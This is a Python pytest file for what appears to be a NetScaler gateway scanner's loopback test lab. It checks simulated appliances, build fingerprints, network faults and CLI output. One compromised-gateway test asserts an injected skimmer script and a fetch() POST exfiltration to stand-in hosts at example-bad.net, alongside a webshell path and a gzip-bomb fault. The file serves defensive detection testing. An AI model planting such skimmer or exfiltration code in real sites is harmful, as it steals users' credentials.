"""The built-in lab: real TLS on loopback, the right build artefacts, faults that misbehave as
declared, and a clean stop. Stdlib clients only (httpx belongs to nscheck/probe/client.py)."""

from __future__ import annotations

import csv
import gzip
import hashlib
import http.client
import json
import socket
import ssl
import threading
import time
import zlib
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from nscheck.cli import app
from nscheck.lab import LabError, Profile, many_hosts, start_lab
from nscheck.lab.check import disagreements
from nscheck.lab.profiles import WEBSHELL_PATH
from nscheck.lab.profiles import preset as preset_profiles

pytestmark = pytest.mark.lab

ROOT = Path(__file__).resolve().parents[1]
FP = ROOT / "signatures" / "fingerprints"
RDX = "/vpn/js/rdx/core/lang/rdx_en.json.gz"
WEBSHELL_LIST = Path("/work/shared/reference/iocs/netscaler-webshell-paths.txt")


def _ctx() -> ssl.SSLContext:
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def _conn(url: str, timeout: float = 5.0) -> http.client.HTTPConnection:
    u = urlsplit(url)
    if u.scheme == "https":
        return http.client.HTTPSConnection(u.hostname, u.port, context=_ctx(), timeout=timeout)
    return http.client.HTTPConnection(u.hostname, u.port, timeout=timeout)


def fetch(url: str, path: str, method: str = "GET", headers: dict[str, str] | None = None):
    c = _conn(url)
    try:
        c.request(method, path, headers=headers or {})
        r = c.getresponse()
        body = r.read()
        return r.status, r.getheaders(), body
    finally:
        c.close()


def fetch_many(url: str, paths: list[str]):
    """Several GETs on one keep-alive connection (one TLS handshake)."""
    c = _conn(url)
    out = []
    try:
        for path in paths:
            c.request("GET", path)
            r = c.getresponse()
            out.append((r.status, r.getheaders(), r.read()))
    finally:
        c.close()
    return out


def hdr(headers, name: str) -> list[str]:
    return [v for k, v in headers if k.lower() == name.lower()]


def stamps_of(build: str) -> set[int]:
    with (FP / "netscaler_rdx_en_gzip_mtime_to_build.csv").open(newline="") as fh:
        return {int(r["rdx_en_stamp"]) for r in csv.DictReader(fh) if r["build"] == build}


@pytest.fixture(scope="module")
def lab():
    with start_lab("full") as running:
        yield running


def url(lab, name: str) -> str:
    return lab.target(name).url


# ------------------------------------------------------------------------------ serving profiles
def test_every_http_profile_answers_over_tls_with_fitting_certificate(lab):
    for t in lab.targets:
        p = t.profile
        if p.kind == "fault" and p.fault in ("refused", "silent", "reset", "broken_tls"):
            continue
        assert t.url.startswith("https://127.0.0.1:")
        c = _conn(t.url)
        try:
            c.request("GET", "/")
            r = c.getresponse()
            r.read(1)
            der = c.sock.getpeercert(binary_form=True)
            status = r.status
        finally:
            c.close()
        from cryptography import x509

        cert = x509.load_der_x509_certificate(der)
        subject = cert.subject.rfc4514_string()
        if p.kind == "netscaler" or (p.kind == "catchall" and p.opt("netscaler", True)):
            assert "OU=NS Internal" in subject and "O=Citrix ANG" in subject, subject
            assert cert.subject == cert.issuer
            cn = cert.subject.get_attributes_for_oid(x509.NameOID.COMMON_NAME)[0].value
            assert cn.startswith("default ") and cn[8:].isupper() and len(cn) == 14
        else:
            assert "Citrix" not in subject
        if p.kind != "fault":
            assert status in (200, 302), (t.name, status)


def test_gateway_redirects_to_login_page_with_appliance_cookies(lab):
    status, headers, _ = fetch(url(lab, "gw-14.1-43.50"), "/")
    assert status == 302
    assert hdr(headers, "Location") == ["/logon/LogonPoint/index.html"]
    status, headers, body = fetch(url(lab, "gw-14.1-43.50"), "/logon/LogonPoint/index.html")
    assert status == 200
    assert b'class="_ctxstxt_NetscalerGateway">NetScaler Gateway</title>' in body
    assert b"_ctxstxt_CitrixCopyright" in body
    cookies = hdr(headers, "Set-Cookie")
    assert any(c.startswith("NSC_TEMP=") for c in cookies) and any(c.startswith("pwcount=") for c in cookies)
    assert "/nscsp_violation/report_uri" in hdr(headers, "Content-Security-Policy")[0]
    # Old classic page is gone on this build; assets referenced by the page are served.
    assert fetch(url(lab, "gw-14.1-43.50"), "/vpn/index.html")[0] == 404
    s, h, ico = fetch(url(lab, "gw-14.1-43.50"), "/vpn/images/AccessGateway.ico")
    assert s == 200 and len(ico) == 1150 and ico[:4] == b"\x00\x00\x01\x00"
    s, h, _ = fetch(url(lab, "gw-14.1-43.50"), "/logon/LogonPoint/receiver/js/ctxs.core.min.js")
    assert s == 200 and hdr(h, "Via")[0].startswith("NS-CACHE-10.0: ")


def test_classic_build_serves_vpn_index_with_vhash_from_table(lab):
    base = url(lab, "gw-12.1-50.28-vhash")
    status, headers, _ = fetch(base, "/")
    assert hdr(headers, "Location") == ["/vpn/index.html"]
    status, headers, body = fetch(base, "/vpn/index.html")
    assert status == 200
    assert b'<title class="_ctxstxt_NetscalerGateway">Citrix Gateway</title>' in body
    with (FP / "netscaler_vhash_to_build.csv").open(newline="") as fh:
        vh = {r["vhash"] for r in csv.DictReader(fh) if r["build"] == "12.1-50.28"}
    assert any(f"?v={v}".encode() in body for v in vh)
    assert hdr(headers, "Server") == ["Apache"]


def test_aaa_and_management_roles(lab):
    status, headers, _ = fetch(url(lab, "aaa-13.1-59.22"), "/")
    assert hdr(headers, "Location") == ["/logon/LogonPoint/tmindex.html"]
    status, headers, body = fetch(url(lab, "aaa-13.1-59.22"), "/logon/LogonPoint/tmindex.html")
    assert status == 200 and b'class="_ctxstxt_NetscalerAAA">NetScaler AAA</title>' in body
    assert any(c.startswith("NSC_TMAS=") for c in hdr(headers, "Set-Cookie"))
    status, headers, body = fetch(url(lab, "mgmt-13.1"), "/")
    assert status == 200 and b"<title>Citrix Login</title>" in body and len(body) > 2000
    assert b'action="/login/do_login"' in body
    assert fetch(url(lab, "mgmt-13.1"), "/admin_ui/common/css/ns/ui.css")[0] == 200


def test_rdx_gzip_mtime_is_the_build_stamp_from_the_table(lab):
    for name, build in [("gw-14.1-43.50", "14.1-43.50"), ("gw-13.0-47.22", "13.0-47.22"),
                        ("gw-fips-13.1-37.241", "13.1-37.241"), ("aaa-13.1-59.22", "13.1-59.22"),
                        ("gw-fips-12.1-55.330", "12.1-55.330")]:
        status, headers, body = fetch(url(lab, name), RDX, headers={"Accept-Encoding": "identity"})
        assert status == 200
        assert body[:4] == b"\x1f\x8b\x08\x08"
        assert body[10:22] == b"rdx_en.json\x00"
        assert int.from_bytes(body[4:8], "little") in stamps_of(build), name
        assert isinstance(json.loads(gzip.decompress(body)), dict)
        assert not hdr(headers, "Content-Encoding")


def test_every_build_in_the_table_can_be_simulated():
    from nscheck.lab.content import build_facts
    from nscheck.lab.sites import NetScalerSite

    with (FP / "netscaler_rdx_en_gzip_mtime_to_build.csv").open(newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["build"]]
    zeroed_by_default = set()
    trusted = {r["build"] for r in rows if r["confidence"] != "low"}
    for r in rows:
        edition = r["edition"].split("|")[0]
        f = build_facts(r["build"], edition)
        if f.rdx == "zeroed":
            zeroed_by_default.add(r["build"])
        else:
            assert f.stamp in stamps_of(r["build"]), r["build"]
        site = NetScalerSite(Profile(f"t-{r['build']}", build=r["build"], edition=edition, roles=("gateway", "aaa")))
        assert site.pages
    # Only builds at or past the zeroed floor whose sole stamps are low-confidence third-party rows
    # get the zeroed body. The three builds BLS extracted have no stamp rows since the 2026-12
    # audit (the citrixscan stamps contradicted the extraction) and serve the zeroed file.
    assert all(build_facts(b).rdx == "zeroed" for b in ("13.1-62.23", "14.1-60.58", "14.1-66.59"))
    assert not zeroed_by_default & trusted
    floors = {"13.1": (62, 23), "14.1": (60, 58)}
    for b in zeroed_by_default:
        rel, num = b.split("-")
        assert tuple(map(int, num.split("."))) >= floors[rel], b


def test_unknown_build_gets_a_stamp_nobody_published(lab):
    _, _, body = fetch(url(lab, "gw-fips-13.1-37.279-unknown-stamp"), RDX)
    stamp = int.from_bytes(body[4:8], "little")
    with (FP / "netscaler_rdx_en_gzip_mtime_to_build.csv").open(newline="") as fh:
        known = {int(r["rdx_en_stamp"]) for r in csv.DictReader(fh)}
    assert stamp not in known and stamp > max(stamps_of("13.1-37.262"))


def test_zeroed_builds_serve_23_byte_gzip_with_mtime_zero(lab):
    with (FP / "netscaler_rdx_en_zeroed.csv").open(newline="") as fh:
        md5s = {r["body_md5"] for r in csv.DictReader(fh)}
    for name in ("gw-zeroed-13.1-62.23", "gw-zeroed-14.1-66.59", "gw-epa-floor-14.1-73.37"):
        status, _, body = fetch(url(lab, name), RDX)
        assert status == 200 and len(body) == 23
        assert body[:4] == b"\x1f\x8b\x08\x00" and body[4:8] == b"\x00\x00\x00\x00"
        assert hashlib.md5(body).hexdigest() in md5s
        assert gzip.decompress(body) == b"{}\n"
    # The disputed third-party stamp can be served instead (NOTES: support both behaviours); the
    # table no longer vouches for it (2026-12 audit), so it names no build.
    _, _, body = fetch(url(lab, "gw-disputed-stamp-14.1-60.58"), RDX)
    assert int.from_bytes(body[4:8], "little") == 1773588193 and not stamps_of("14.1-60.58")


def test_regzip_proxy_wraps_the_gz_file_in_content_encoding(lab):
    status, headers, body = fetch(url(lab, "gw-regzip-proxy-14.1-38.53"), RDX,
                                  headers={"Accept-Encoding": "identity"})
    assert status == 200 and hdr(headers, "Content-Encoding") == ["gzip"]
    inner = gzip.decompress(body)
    assert inner[:4] == b"\x1f\x8b\x08\x08"
    assert int.from_bytes(inner[4:8], "little") in stamps_of("14.1-38.53")


def test_last_modified_and_etag_track_the_build(lab):
    _, headers, body = fetch(url(lab, "gw-13.0-91.13"), "/vpn/index.html")
    assert hdr(headers, "Last-Modified") == ["Fri, 07 Jul 2023 15:39:40 GMT"]  # published value
    size_hex, usec_hex = hdr(headers, "ETag")[0].strip('"').split("-")
    assert int(size_hex, 16) == len(body)
    assert int(usec_hex, 16) // 1_000_000 == 1688744380  # the same instant, Apache style
    base = url(lab, "gw-customised-13.1-56.18")
    landing = hdr(fetch(base, "/")[1], "Location")[0]
    _, headers, body = fetch(base, landing)
    assert hdr(headers, "Last-Modified") == ["Thu, 14 Mar 2024 09:26:53 GMT"]  # customer's file
    assert b"Contoso Secure Access</title>" in body and b"?v=" not in body
    assert b"/logon/LogonPoint/receiver/" in body  # the appliance's assets stay


def test_nsepa_deb_range_and_head(lab):
    base = url(lab, "gw-epa-floor-14.1-73.37")
    status, headers, body = fetch(base, "/epa/scripts/linux/nsepa.deb", headers={"Range": "bytes=0-0"})
    assert status == 206 and body == b"!"
    assert hdr(headers, "Content-Range") == ["bytes 0-0/10688726"]
    status, headers, body = fetch(base, "/epa/scripts/linux/nsepa.deb", method="HEAD")
    assert status == 200 and not hdr(headers, "Content-Length") and body == b""
    status, headers, _ = fetch(url(lab, "gw-epa-before-14.1-73.33"), "/epa/scripts/linux/nsepa.deb",
                               headers={"Range": "bytes=0-0"})
    assert hdr(headers, "Content-Range") == ["bytes 0-0/11230664"]
    # No published size for older builds: not served (absence is not "patched").
    assert fetch(url(lab, "gw-14.1-43.50"), "/epa/scripts/linux/nsepa.deb")[0] == 404
    status, _, xml = fetch(base, "/vpn/pluginlist.xml")
    assert status == 200 and b'name="Netscaler Gateway EPA plug-in for Windows (32 bit)" version="' in xml


def test_byte_ranges_on_static_files(lab):
    base = url(lab, "gw-14.1-43.50")
    _, _, ico = fetch(base, "/vpn/images/AccessGateway.ico")
    status, headers, body = fetch(base, "/vpn/images/AccessGateway.ico", headers={"Range": "bytes=-6"})
    assert status == 206 and body == ico[-6:] and hdr(headers, "Content-Range") == ["bytes 1144-1149/1150"]
    status, headers, body = fetch(base, "/vpn/images/AccessGateway.ico", headers={"Range": "bytes=10-"})
    assert status == 206 and body == ico[10:]
    status, headers, _ = fetch(base, "/vpn/images/AccessGateway.ico", headers={"Range": "bytes=5000-6000"})
    assert status == 416 and hdr(headers, "Content-Range") == ["bytes */1150"]
    status, _, body = fetch(base, "/vpn/images/AccessGateway.ico", headers={"Range": "items=1-2"})
    assert status == 200 and body == ico


def test_expected_answer_is_never_served(lab):
    for t in lab.targets:
        if t.profile.kind != "netscaler" or not t.profile.build:
            continue
        b = t.profile.build.encode()
        number = b.split(b"-", 1)[1]
        paths = ["/", "/vpn/index.html", "/logon/LogonPoint/index.html", "/logon/LogonPoint/tmindex.html",
                 "/vpn/pluginlist.xml", "/index.html"]
        for path, (_, headers, body) in zip(paths, fetch_many(t.url, paths), strict=True):
            blob = body + repr(headers).encode()
            assert b not in blob and b"Build " + number not in blob, (t.name, path)


def test_phishing_clone_copies_the_page_and_nothing_else(lab):
    base = url(lab, "phishing-clone")
    status, headers, body = fetch(base, "/")
    assert status == 200 and b"_ctxstxt_NetscalerGateway" in body
    assert not hdr(headers, "Set-Cookie") and not hdr(headers, "Content-Security-Policy")
    assert fetch(base, RDX)[0] == 404
    assert fetch(base, "/vpn/js/rdx.js")[0] == 404
    assert fetch(base, "/vpn/images/AccessGateway.ico")[0] == 404


def test_plain_server_is_not_netscaler(lab):
    status, headers, body = fetch(url(lab, "plain-nginx"), "/")
    assert status == 200 and b"Welcome to nginx!" in body and hdr(headers, "Server") == ["nginx"]
    assert not any("NSC_" in c for c in hdr(headers, "Set-Cookie"))
    assert fetch(url(lab, "plain-nginx"), RDX)[0] == 404


def test_catchall_answers_every_path_with_the_login_page(lab):
    base = url(lab, "catchall-gateway")
    for path in ("/", RDX, "/no/such/thing.php", WEBSHELL_PATH):
        status, _, body = fetch(base, path)
        assert status == 200 and b"_ctxstxt_NetscalerGateway" in body, path
    status, _, body = fetch(url(lab, "catchall-spa"), "/anything")
    assert status == 200 and b'<div id="root">' in body


def test_compromised_gateway_has_skimmer_exfil_and_webshell(lab):
    base = url(lab, "gw-compromised-14.1-43.50")
    _, _, body = fetch(base, "/logon/LogonPoint/index.html")
    assert b'<script src="https://cdn-metrics.example-bad.net/s.js">' in body
    assert b"fetch('https://collect.example-bad.net/x', {method:'POST', body:" in body
    status, _, shell = fetch(base, WEBSHELL_PATH)
    assert status == 200 and shell == b""
    assert fetch(base, "/logon/LogonPoint/uiareas/Authentication/media/nosuch.php")[0] == 404
    if WEBSHELL_LIST.exists():
        assert WEBSHELL_PATH in WEBSHELL_LIST.read_text().split()
    # The clean gateways have neither.
    _, _, clean = fetch(url(lab, "gw-clean-custom-13.1-59.22"), "/logon/LogonPoint/index.html")
    assert b"https://fonts.googleapis.com/css2" in clean and b"example-bad" not in clean
    assert fetch(url(lab, "gw-clean-custom-13.1-59.22"), WEBSHELL_PATH)[0] == 404


# ------------------------------------------------------------------------------------ HTTP basics
def test_keep_alive_head_and_request_log(lab):
    base = url(lab, "gw-13.1-49.13")
    c = _conn(base)
    try:
        for method in ("GET", "HEAD", "GET"):
            c.request(method, "/vpn/index.html")
            r = c.getresponse()
            body = r.read()
            assert r.status == 200 and (body == b"" if method == "HEAD" else len(body) > 1000)
            assert int(r.getheader("Content-Length")) > 1000
        c.request("POST", "/cgi/login", body=b"x=1")
        r = c.getresponse()
        r.read()
        assert r.status == 405
    finally:
        c.close()
    seen = lab.requests_for("gw-13.1-49.13")
    assert ("GET", "/vpn/index.html") in seen and ("HEAD", "/vpn/index.html") in seen
    assert ("POST", "/cgi/login") in seen


# ------------------------------------------------------------------------------------------ faults
def _hp(lab, name: str) -> tuple[str, int]:
    u = urlsplit(url(lab, name))
    return u.hostname, u.port


def test_refused_port_refuses(lab):
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(_hp(lab, "fault-refused"), timeout=2)


def test_silent_host_accepts_and_never_answers(lab):
    with socket.create_connection(_hp(lab, "fault-silent"), timeout=2) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        s.settimeout(0.5)
        with pytest.raises(TimeoutError):
            s.recv(1)


def test_reset_host_resets(lab):
    with socket.create_connection(_hp(lab, "fault-reset"), timeout=2) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        with pytest.raises(ConnectionResetError):
            s.recv(1)


def test_broken_tls_fails_the_handshake(lab):
    with socket.create_connection(_hp(lab, "fault-broken-tls"), timeout=2) as raw, pytest.raises(ssl.SSLError):
        _ctx().wrap_socket(raw, server_hostname="localhost")


def test_gzip_bomb_is_small_and_inflates_hugely(lab):
    status, headers, body = fetch(url(lab, "fault-gzip-bomb"), "/")
    assert status == 200 and hdr(headers, "Content-Encoding") == ["gzip"]
    assert len(body) < 300_000
    d = zlib.decompressobj(16 + zlib.MAX_WBITS)
    total, buf = 0, body
    while buf and total < 100 * 1024 * 1024:
        out = d.decompress(buf, 8 * 1024 * 1024)
        total += len(out)
        buf = d.unconsumed_tail
    assert total >= 100 * 1024 * 1024


def test_redirect_goes_to_another_host(lab):
    status, headers, _ = fetch(url(lab, "fault-redirect"), "/vpn/index.html")
    assert status == 302
    loc = urlsplit(hdr(headers, "Location")[0])
    own = urlsplit(url(lab, "fault-redirect"))
    assert (loc.hostname, loc.port) != (own.hostname, own.port) and loc.path == "/vpn/index.html"
    assert loc.hostname is not None and loc.hostname.startswith("127.")
    assert fetch(f"{loc.scheme}://{loc.hostname}:{loc.port}", "/")[0] == 200


def test_drip_sends_the_body_slowly(lab):
    c = _conn(url(lab, "fault-drip"))
    try:
        c.request("GET", "/")
        r = c.getresponse()
        assert r.status == 200 and int(r.getheader("Content-Length")) > 4000
        t0 = time.monotonic()
        got = r.read(4)
        assert len(got) == 4 and time.monotonic() - t0 >= 0.25
    finally:
        c.close()


def test_endless_body_never_ends(lab):
    c = _conn(url(lab, "fault-endless"))
    try:
        c.request("GET", "/")
        r = c.getresponse()
        assert r.status == 200 and r.getheader("Transfer-Encoding") == "chunked"
        total = 0
        while total < 4 * 1024 * 1024:
            chunk = r.read(65536)
            assert chunk
            total += len(chunk)
    finally:
        c.close()


# ---------------------------------------------------------------------------------- lifecycle, CLI
def test_latency_stop_and_no_threads_left():
    lab = start_lab([Profile("gw", build="14.1-47.46", roles=("gateway",))], latency_ms=150)
    t0 = time.monotonic()
    assert fetch(lab.target_urls[0], "/")[0] == 302
    assert time.monotonic() - t0 >= 0.15
    hp = (lab.targets[0].host, lab.targets[0].port)
    lab.stop()
    lab.stop()  # idempotent
    assert lab.thread_name.startswith("nscheck-lab-")
    assert not [t for t in threading.enumerate() if t.name == lab.thread_name]
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(hp, timeout=2)


def test_plain_http_mode_and_ipv6_loopback():
    with start_lab([Profile("plain", kind="plain")], tls=False) as lab:
        assert lab.target_urls[0].startswith("http://127.0.0.1:")
        assert fetch(lab.target_urls[0], "/")[0] == 200
    if socket.has_ipv6:
        try:
            lab6 = start_lab([Profile("plain", kind="plain")], host="::1")
        except LabError:
            pytest.skip("no ::1 on this machine")
        with lab6:
            assert lab6.target_urls[0].startswith("https://[::1]:")


def test_only_loopback_binds():
    for bad in ("0.0.0.0", "::", "localhost-ish"):
        with pytest.raises(LabError):
            start_lab("demo", host=bad)
    with pytest.raises(LabError):
        start_lab([Profile("x", kind="plain", options={"host": "0.0.0.0"})])


def test_many_hosts_mode_shares_and_spread():
    profiles = many_hosts(40, refused_share=0.1, silent_share=0.05, seed=3, spread=True)
    assert len(profiles) == 40
    assert sum(p.fault == "refused" for p in profiles) == 4
    assert sum(p.fault == "silent" for p in profiles) == 2
    with start_lab(profiles) as lab:
        hosts = {t.host for t in lab.targets}
        assert len(hosts) > 10 and all(h.startswith("127.0.0.") for h in hosts)
        ok = [t for t in lab.targets if t.profile.kind == "netscaler"][:3]
        for t in ok:
            assert fetch(t.url, RDX)[0] == 200


def test_cli_lab_prints_and_writes_targets(tmp_path):
    from typer.testing import CliRunner

    out = tmp_path / "targets.txt"
    res = CliRunner().invoke(app, ["lab", "--preset", "indicators", "--duration", "0", "--write-targets", str(out)])
    assert res.exit_code == 0, res.output
    urls = [ln for ln in out.read_text().splitlines() if ln and not ln.startswith("#")]
    assert len(urls) == 5 and all(u.startswith("https://127.0.0.1:") for u in urls)
    assert "gw-compromised-14.1-43.50" in res.output and "catchall-gateway" in res.output
    res = CliRunner().invoke(app, ["lab", "--bind", "0.0.0.0", "--duration", "0"])
    assert res.exit_code == 64
    res = CliRunner().invoke(app, ["lab", "--hosts", "6", "--refused-share", "0.5", "--silent-share", "0",
                                   "--duration", "0", "--write-targets", str(out)])
    assert res.exit_code == 0, res.output
    assert len([ln for ln in out.read_text().splitlines() if ln.startswith("https://")]) == 6
    assert res.output.count("fault:refused") == 3


def test_demo_scans_the_lab_and_agrees_with_it():
    from typer.testing import CliRunner

    pytest.importorskip("nscheck.runner")
    res = CliRunner().invoke(app, ["demo", "--format", "json"])
    assert res.exit_code == 0, res.output
    start = res.stdout.index("[")
    results = json.loads(res.stdout[start:res.stdout.rindex("]") + 1])
    assert len(results) == len(preset_profiles("demo"))
    assert sum(1 for r in results if r["status"] == "unreachable") == 1
    assert sum(1 for r in results if r["product"]["is_netscaler"]) == sum(
        1 for p in preset_profiles("demo") if p.kind == "netscaler")
    assert sum(1 for r in results if r["verdict"] == "compromised") == 1
    # Every verdict, a patched clean appliance (not_vulnerable) included.
    assert {r["verdict"] for r in results} == {"compromised", "vulnerable", "unknown", "unreachable", "not_vulnerable",
                                               "not_netscaler"}
    patched = next(r for r in results if r["verdict"] == "not_vulnerable")
    assert patched["build"]["exact"] and all(a["verdict"] == "not_vulnerable" for a in patched["advisories"])


def test_disagreements_reports_wrong_answers(lab):
    from nscheck.model import BuildInfo, HostResult, HostStatus, ProductInfo

    t = lab.target("gw-14.1-43.50")
    right = HostResult(target=t.url, status=HostStatus.OK, url=t.url, product=ProductInfo(True, ("gateway",)),
                       build=BuildInfo("14.1", "43.50", "standard", True, ("14.1-43.50",)))
    assert disagreements(t, right) == []
    wrong = HostResult(target=t.url, status=HostStatus.OK, url=t.url, product=ProductInfo(True, ("gateway",)),
                       build=BuildInfo("14.1", "47.46", "standard", True, ("14.1-47.46",)))
    assert disagreements(t, wrong)
    phish = lab.target("phishing-clone")
    fooled = HostResult(target=phish.url, status=HostStatus.OK, product=ProductInfo(True, ("gateway",)))
    assert disagreements(phish, fooled)
    floor_t = lab.target("gw-epa-floor-14.1-73.37")
    no_floor = HostResult(target=floor_t.url, status=HostStatus.OK, product=ProductInfo(True, ("gateway",)),
                          build=BuildInfo("14.1", None, None, False, (), floor="14.1-60.58 or later"))
    assert any("floor" in d for d in disagreements(floor_t, no_floor))
    assert hash(floor_t.profile)  # profiles are hashable despite their options mapping
